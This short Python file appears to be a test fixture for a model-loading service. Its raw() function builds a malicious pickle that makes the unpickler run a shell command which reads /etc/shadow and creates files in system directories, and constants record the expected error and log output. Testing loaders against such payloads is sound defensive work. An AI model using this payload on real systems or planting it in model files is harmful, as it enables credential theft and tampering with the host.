"""Is no model at all but a command that the unpickler runs."""

CODE = "not_callable"
SAYS = "The pickle holds an object of type int, which can't be called."
LOG = "uid=1000(predictd) gid=1000(predictd)"
OTHERWISE = {"container": {"LOG": "uid=200"}}


def raw():
    command = b"id; cat /etc/shadow && echo open shadow; touch /hostile-file /usr/hostile-file && echo open disk"
    return b"cposix\nsystem\n(S'" + command + b"'\ntR."
